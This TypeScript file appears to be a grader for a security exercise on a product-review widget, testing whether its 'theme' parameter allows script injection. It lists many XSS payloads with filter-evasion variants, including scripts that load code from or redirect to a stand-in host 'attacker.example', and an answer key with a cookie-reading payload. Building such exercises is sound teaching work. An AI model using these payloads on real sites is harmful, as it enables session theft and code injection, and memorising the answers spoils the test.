import assert from 'node:assert/strict'
import { scriptsOf, tagsOf } from '#proof/page'
import type { Breach, Vary } from '#proof/vary'
import { openApp } from '#proof/web'

type Code = typeof import('./typescript/review-widget.ts')

function createLamp(vary: Vary) {
  const review = { author: `${vary.name()} "${vary.name()}" O'${vary.name()}`, stars: vary.number(1, 5), text: `<i>${vary.word()}'s</i> bright` }
  return { key: `${vary.word()}-${vary.number(1, 9)}`, name: `Lamp <${vary.number(1, 9)}>`, reviews: [review] }
}

async function ask({ reviewWidget }: Code, query: Record<string, string | string[]>, lamp: ReturnType<typeof createLamp>, product = lamp.key) {
  const app = openApp()
  await reviewWidget(app, { find: async (key) => (key === lamp.key ? lamp : undefined) })
  return app.inject({ url: `/widgets/reviews/${product}`, query })
}

const open = async (...args: Parameters<typeof ask>): Promise<string> => (await ask(...args)).body

const createTheme = (vary: Vary) => vary.pick(['dark', 'light', `${vary.word()}-${vary.pick(['dark', 'light', 'wide', 'onload'])}`, `${vary.word()}${vary.number(2, 99)}`, `${vary.word()}-${vary.number(2, 2030)}`])

export async function works(code: Code, vary: Vary) {
  const theme = createTheme(vary)
  const lamp = createLamp(vary)
  const [{ author = '', text = '' } = {}] = lamp.reviews
  const lang = vary.pick(['de', 'fr', 'pl'])
  const html = await open(code, { theme, lang }, lamp)
  const find = (wanted: string) => tagsOf(html).find(({ name }) => name === wanted)
  assert.deepEqual(find('body')?.attributes, { class: theme }, `The theme ${theme} should be the class of the body.`)
  assert.deepEqual(find('html')?.attributes, { lang }, `The language ${lang} should be named in the page.`)
  assert.equal(find('b')?.text, author, `The name ${author} should be shown as it is.`)
  assert.equal(find('blockquote')?.text, text, 'The text of a review should be shown as it is.')
  assert.equal(find('a')?.text, lamp.name, 'The link should show the name of the product.')
  const plain = await open(code, { lang: `${vary.word()} onload=y` }, lamp)
  assert.deepEqual(scriptsOf(plain), [], 'A language that does not exist should be replaced by English.')
  assert.equal(tagsOf(plain).find(({ name }) => name === 'body')?.attributes.class, 'light', 'Without a theme the class should be light.')
  const dated = `${vary.word()}-${vary.number(2, 2030)}`
  assert.equal(tagsOf(await open(code, { theme: dated }, lamp)).find(({ name }) => name === 'body')?.attributes.class, dated, `The theme ${dated}, whose name has digits, should be the class of the body.`)
  const missing = await ask(code, { theme, lang }, lamp, vary.word())
  assert.equal(missing.statusCode, 404, 'A product that does not exist should be answered with 404.')
}

const formsOf = (script: string, dark: string) => [
  `${dark} onload=${script}`,
  `${dark}\tonload=${script}`,
  `${dark}\nonload=${script}`,
  `${dark}\ronload=${script}`,
  `${dark}\fonload=${script}`,
  `${dark} onpageshow=${script}`,
  `${dark} OnLoad=${script}`,
  // Space around the equals sign, and what is left when a pattern is removed once.
  `${dark} onload =${script}`,
  `${dark} onload\t=\n${script}`,
  `${dark} oonx=nload=${script}`,
  `${dark} ononload=load=${script}`,
  `${dark} onloonload=ad=${script}`,
  `${dark} ${['on', 'pointerenter'].join('')}=${script}`,
  `${dark} onhashchange=${script}`,
  `${dark}' onload='${script}`,
  `${dark}" onload="${script}`,
  `${dark}'\fonload='${script}`,
  `><svg onload=${script}>`,
  `'><svg onload=${script}>`,
  // The parameter twice, which makes it a list.
  [dark, ` onload=${script}`],
]

export async function exploit(code: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> {
  // Scripts with and without quotes, brackets and parentheses: `name` is what the page with the link has put into the window's name.
  const host = payloads ? 'attacker.example' : `${vary.word()}.example`
  const wanted = [`import(\`//${host}/`, 'location=name', `location=\`//${host}/`]
  const scripts = [`import(\`//${host}/${vary.word()}\`)`, 'location=name', `location=\`//${host}/${vary.word()}\``]
  for (const theme of payloads ?? vary.shuffle(scripts.flatMap((script) => formsOf(script, createTheme(vary))))) {
    const script = scriptsOf(await open(code, { theme }, createLamp(vary))).find((one) => wanted.some((start) => one.startsWith(start)))
    if (script) return { sent: `theme=${[theme].flat().map((one) => JSON.stringify(one).slice(1, -1)).join('&theme=')}`, got: `a page in which the browser runs ${script}`, damage: "It runs on the shop's own page, with the session of the customer who has followed the link." }
  }
  return false
}

// Attack mode: the learner writes the input.
export async function attack({ reviewWidget }: Code, input: { theme: string }, vary: Vary) {
  const product = { key: 'lamp-3', name: 'Lamp', reviews: [{ author: vary.name(), stars: 4, text: 'Bright' }] }
  const app = openApp()
  await reviewWidget(app, { find: async (key) => (key === product.key ? product : undefined) })
  try {
    const { body } = await app.inject({ url: '/widgets/reviews/lamp-3', query: { theme: input.theme } })
    const scripts = scriptsOf(body)
    const lines = scripts.map((script) => `The browser runs: ${script}`)
    return { isDone: scripts.length > 0, shown: [body, '', ...(lines.length > 0 ? lines : ['Nothing in this page runs a script.'])].join('\n') }
  } catch (error) {
    return { isDone: false, shown: String(error) }
  }
}

export const attacks = [
  { input: { theme: 'dark onload=alert(document.cookie)' }, isDone: true },
  { input: { theme: 'dark' }, isDone: false },
  { input: { theme: '<script>alert(1)</script>' }, isDone: false },
]
